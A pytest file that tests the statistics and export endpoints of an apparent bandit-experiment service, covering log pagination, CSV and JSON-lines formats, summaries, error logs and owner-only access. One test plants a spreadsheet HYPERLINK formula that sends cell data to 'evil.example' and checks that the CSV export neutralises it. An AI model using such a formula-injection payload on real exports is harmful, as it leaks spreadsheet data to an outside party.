"""What researchers read: lists, cursors and formats, counts, snapshots."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from typing import Any

import httpx
import pytest
from pymongo.database import Database

from tests.servers import COUNTING, Experiment, Researcher


@pytest.fixture
def experiment(researcher: Researcher) -> Experiment:
    """An experiment with five decisions, each rewarded by its advice."""
    scripts = COUNTING | {
        "set_reward": COUNTING["set_reward"] + "self.log_data({'arm': arm, 'n': count.get_value()})\n"
    }
    made = researcher.create(**scripts, advice_id=True, delta_hours=1, default_reward={"value": 0})
    for number in range(5):
        advice = made.get_action(context={"number": number}).json()["advice_id"]
        assert made.set_reward(advice_id=advice, reward={"value": number}).json() == {"status": "success"}
    return made


def test_the_action_log_has_all_that_is_needed_to_evaluate_a_policy(experiment: Experiment) -> None:
    rows = experiment.stats("actionlog")
    assert [row["context"]["number"] for row in rows] == [4, 3, 2, 1, 0]
    wanted = {"date", "context", "action", "propensity", "advice_id", "revision", "seq", "epoch", "seed", "status"}
    assert rows[0].keys() == wanted
    assert rows[0]["propensity"] == rows[0]["action"]["propensity"] == 0.5
    assert rows[0]["status"] == "rewarded"
    assert rows[0]["date"].endswith("+00:00")


def test_the_reward_log_is_in_the_order_of_seq(experiment: Experiment) -> None:
    rows = experiment.stats("rewardlog")
    assert [row["reward"]["value"] for row in rows] == [4, 3, 2, 1, 0]
    assert [row["seq"] for row in rows] == [5, 4, 3, 2, 1]
    assert rows[0].keys() == {"date", "seq", "context", "action", "reward", "advice_id", "revision", "seed"}


def test_the_manual_log_has_what_scripts_logged_and_when(experiment: Experiment) -> None:
    rows = experiment.stats("log")
    assert len(rows) == 5
    assert rows[0].keys() == {"arm", "n", "date"}


@pytest.mark.parametrize("log", ["actionlog", "rewardlog", "log"])
def test_pages_follow_one_another_without_gap_or_overlap(experiment: Experiment, log: str) -> None:
    whole = experiment.stats(log)
    pages, before = [], None
    while True:
        answer = experiment.http.get(
            f"/stats/{experiment.id}/{log}", params={"limit": 2} | ({"before": before} if before else {})
        )
        pages.append(answer.json())
        before = answer.headers.get("X-Next-Before")
        if before is None:
            break
    assert [len(page) for page in pages] == [2, 2, 1]
    assert [row for page in pages for row in page] == whole


def test_lists_come_as_json_lines_and_as_csv(experiment: Experiment) -> None:
    whole = experiment.stats("rewardlog")
    url = f"/stats/{experiment.id}/rewardlog"
    lines = experiment.http.get(url, params={"format": "jsonl"}).text.splitlines()
    assert [json.loads(line) for line in lines] == whole
    answer = experiment.http.get(url, params={"format": "csv"})
    assert answer.headers["Content-Type"] == "text/csv; charset=UTF-8"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="rewardlog-{experiment.id}.csv"'
    table = rows_of(answer)
    assert list(table[0]) == [
        "date", "seq", "context.number", "action.arm", "action.propensity", "reward.value", "advice_id", "request_id",
        "default", "revision", "seed", "other_fields",
    ]  # fmt: skip
    assert [int(row["reward.value"]) for row in table] == [row["reward"]["value"] for row in whole]
    assert [row["action.arm"] for row in table] == [row["action"]["arm"] for row in whole]
    assert table[0]["seq"] == "5"


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    """The rows of a CSV, by the names of the columns."""
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def as_csv(experiment: Experiment, log: str, **parameters: Any) -> list[dict[str, str]]:
    return rows_of(experiment.http.get(f"/stats/{experiment.id}/{log}", params={"format": "csv", **parameters}))


LOGGING = "self.action['a'] = 1\nself.log_data(self.context['log'])"


def logged(researcher: Researcher, *rows: dict[str, Any]) -> Experiment:
    """An experiment whose script logged these, one after the other."""
    made = researcher.create(get_action=LOGGING)
    for row in rows:
        assert made.get_action(context={"log": row}).status_code == 200
    return made


def test_what_scripts_logged_is_a_table_with_a_column_for_each_field(researcher: Researcher) -> None:
    experiment = logged(
        researcher,
        {"visits": 3, "page": "home"},
        {"cart": {"total": 2.5, "items": [1, 2]}, "data": "own", "page": None},
    )
    newest, first = as_csv(experiment, "log")
    assert list(first) == ["date", "cart.total", "cart.items", "data", "page", "visits", "other_fields"]
    assert (first["visits"], first["page"], first["cart.total"]) == ("3", "home", "")
    assert (newest["cart.total"], newest["cart.items"], newest["data"]) == ("2.5", "[1,2]", "own")
    assert newest["date"] == experiment.stats("log")[0]["date"]


def test_a_logged_field_that_is_called_date_is_kept_beside_the_date_of_the_row(researcher: Researcher) -> None:
    experiment = logged(researcher, {"date": "today", "data": {"n": 1}}, {"date": 1, "logged_date": 2})
    newest, first = experiment.stats("log")
    assert first == {"date": first["date"], "logged_date": "today", "data": {"n": 1}}
    assert newest == {"date": newest["date"], "logged_logged_date": 1, "logged_date": 2}
    assert first["date"][:2] == "20"
    assert [row["logged_date"] for row in as_csv(experiment, "log")] == ["2", "today"]


def test_the_columns_of_a_page_are_those_of_its_rows(researcher: Researcher) -> None:
    experiment = logged(researcher, {"a": 1}, {"b": 2}, {"c": 3})
    answer = experiment.http.get(f"/stats/{experiment.id}/log", params={"format": "csv", "limit": 2})
    assert list(rows_of(answer)[0]) == ["date", "c", "b", "other_fields"]
    (last,) = as_csv(experiment, "log", before=answer.headers["X-Next-Before"])
    assert list(last) == ["date", "a", "other_fields"]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_nothing_that_a_caller_sends_is_a_formula_in_the_csv(researcher: Researcher, begin: str) -> None:
    experiment = researcher.create(**COUNTING)
    evil = begin + 'HYPERLINK("http://evil.example/?"&A2,"click")'
    answer = experiment.post("getaction", context={"page": evil, "n": -1}, request_id=evil)
    assert answer.status_code == 200
    (row,) = as_csv(experiment, "actionlog")
    assert row["request_id"] == row["context.page"] == f"'{evil}"
    assert row["context.n"] == "-1"
    assert experiment.stats("actionlog")[0]["request_id"] == evil


def test_decisions_come_with_their_rewards(experiment: Experiment) -> None:
    waiting = experiment.get_action(context={"number": 5}).json()["advice_id"]
    rows = experiment.stats("decisions")
    assert [row["context"]["number"] for row in rows] == [5, 4, 3, 2, 1, 0]
    assert list(rows[0]) == [
        "date", "context", "action", "propensity", "status", "reward", "delay", "revision", "seq", "advice_id",
    ]  # fmt: skip
    newest, *others = rows
    assert (newest["status"], newest["reward"], newest["delay"], newest["advice_id"]) == (
        "pending",
        None,
        None,
        waiting,
    )
    actions = {row["advice_id"]: row for row in experiment.stats("actionlog")}
    rewards = {row["advice_id"]: row for row in experiment.stats("rewardlog")}
    for row in others:
        decision, reward = actions[row["advice_id"]], rewards[row["advice_id"]]
        assert (row["status"], row["reward"]) == ("rewarded", reward["reward"])
        waited = datetime.fromisoformat(reward["date"]) - datetime.fromisoformat(decision["date"])
        assert row["delay"] == pytest.approx(waited.total_seconds())
        assert {name: row[name] for name in ("date", "action", "propensity", "revision", "seq")} == {
            name: decision[name] for name in ("date", "action", "propensity", "revision", "seq")
        }
    table = as_csv(experiment, "decisions", limit=3)
    assert list(table[0]) == [
        "date", "context.number", "action.arm", "action.propensity", "propensity", "status", "reward.value", "delay",
        "revision", "seq", "advice_id", "other_fields",
    ]  # fmt: skip
    assert [row["reward.value"] for row in table] == ["", "4", "3"]
    assert [float(row["delay"] or -1) for row in table] == [-1, rows[1]["delay"], rows[2]["delay"]]


def test_many_decisions_come_with_their_rewards_page_by_page(researcher: Researcher) -> None:
    experiment = researcher.create(**COUNTING, advice_id=True, delta_hours=1, default_reward={})
    items = experiment.post("getaction", "batch", items=[{"context": {"n": n}} for n in range(450)]).json()["items"]
    given = [{"advice_id": item["advice_id"], "reward": {"n": n}} for n, item in enumerate(items) if n % 3]
    assert all("error" not in item for item in experiment.post("setreward", "batch", items=given).json()["items"])
    seen, before = [], {}
    while True:
        answer = experiment.http.get(f"/stats/{experiment.id}/decisions", params={"limit": 203} | before)
        seen += answer.json()
        if "X-Next-Before" not in answer.headers:
            break
        before = {"before": answer.headers["X-Next-Before"]}
    assert seen == experiment.stats("decisions")
    assert len(seen) == 450
    assert all(row["reward"] == ({"n": row["context"]["n"]} if row["context"]["n"] % 3 else None) for row in seen)


def test_decisions_without_advice_have_no_reward_of_their_own(researcher: Researcher) -> None:
    experiment = researcher.create(**COUNTING)
    action = experiment.get_action().json()["action"]
    experiment.set_reward(context={}, action=action, reward={"value": 1})
    (row,) = experiment.stats("decisions")
    assert (row["status"], row["reward"], row["delay"], row["advice_id"]) == ("logged", None, None, None)


@pytest.mark.parametrize(
    ("parameters", "named"),
    [
        ({"limit": "0"}, "limit"),
        ({"limit": "x"}, "limit"),
        ({"limit": "9" * 5_000}, "limit"),
        ({"before": "x"}, "before"),
        ({"before": "999999999999999-x"}, "before"),
        ({"before": "9" * 5_000}, "before"),
        ({"format": "xml"}, "format"),
    ],
)
@pytest.mark.parametrize("log", ["actionlog", "decisions", "log"])
def test_bad_parameters_of_lists_are_named(
    experiment: Experiment, log: str, parameters: dict[str, str], named: str
) -> None:
    answer = experiment.http.get(f"/stats/{experiment.id}/{log}", params=parameters)
    assert answer.status_code == 400
    assert answer.json()["error"]["detail"] == {"parameter": named}


@pytest.mark.parametrize(
    "before", ["0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "9" * 5_000, "2026-13-01", ""]
)
def test_an_hour_that_cannot_be_is_refused(experiment: Experiment, before: str) -> None:
    answer = experiment.http.get(f"/stats/{experiment.id}/hourlytheta", params={"before": before})
    assert answer.status_code == 400
    assert answer.json()["error"]["detail"] == {"parameter": "before"}


def test_the_summary_counts_calls_and_dates_them(experiment: Experiment) -> None:
    summary = experiment.summary()
    assert summary["get_action_calls"] == summary["set_reward_calls"] == 5
    assert summary["last_added_get_action"] == experiment.stats("actionlog")[0]["date"]
    assert summary["last_added_set_reward"] == experiment.stats("rewardlog")[0]["date"]


def test_an_untouched_experiment_has_empty_lists_and_no_dates(researcher: Researcher) -> None:
    experiment = researcher.create()
    for log in ("actionlog", "decisions", "rewardlog", "log", "errors", "hourlytheta", "simulationlog"):
        assert experiment.stats(log) == []
    assert experiment.summary() == {
        "get_action_calls": 0,
        "last_added_get_action": None,
        "set_reward_calls": 0,
        "last_added_set_reward": None,
    }


def test_a_failing_script_is_shown_to_its_owner_and_not_to_the_caller(researcher: Researcher) -> None:
    experiment = researcher.create(get_action="x = 1\nself.action['a'] = x / 0")
    answer = experiment.get_action()
    assert answer.status_code == 500
    assert "ZeroDivisionError" not in answer.text
    (row,) = experiment.wait_for("errors")
    assert row.pop("date")[:2] == "20"
    assert row == {
        "script": "get_action",
        "line": 2,
        "message": "ZeroDivisionError: division by zero",
        "source": "self.action['a'] = x / 0",
        "revision": 1,
    }


@pytest.mark.parametrize("form", ["json", "jsonl", "csv"])
def test_a_stream_that_fails_half_way_is_broken_off(
    experiment: Experiment, database: Database[dict[str, Any]], form: str
) -> None:
    row = database.rewards.find_one({"exp_id": experiment.id})
    assert row is not None
    rows = [{**row, "_id": f"{experiment.id}:{seq}", "seq": seq} for seq in range(10, 3_000)]
    del rows[0]["date"]  # the last to be sent
    database.rewards.insert_many(rows)
    url = f"/stats/{experiment.id}/rewardlog"
    if form == "csv":  # all rows are read for their columns before the first is sent
        assert experiment.http.get(url, params={"format": form}).status_code == 500
    else:
        with pytest.raises(httpx.RemoteProtocolError):
            experiment.http.get(url, params={"format": form})
    assert len(experiment.stats("rewardlog", limit=2_000)) == 2_000


@pytest.mark.parametrize("path", [
        "currenttheta", "summary", "actionlog", "decisions", "rewardlog", "log", "errors", "hourlytheta",
        "simulationlog",
    ],
)  # fmt: skip
def test_statistics_are_for_the_owner_alone(experiment: Experiment, other: Researcher, path: str) -> None:
    foreign = other.http.get(f"/stats/{experiment.id}/{path}")
    missing = other.http.get(f"/stats/nothing/{path}")
    assert (foreign.status_code, missing.status_code) == (401, 401)
    assert foreign.json()["error"]["message"].replace(experiment.id, "nothing") == missing.json()["error"]["message"]
    other.http.cookies.clear()
    assert other.http.get(f"/stats/{experiment.id}/{path}").status_code == 401
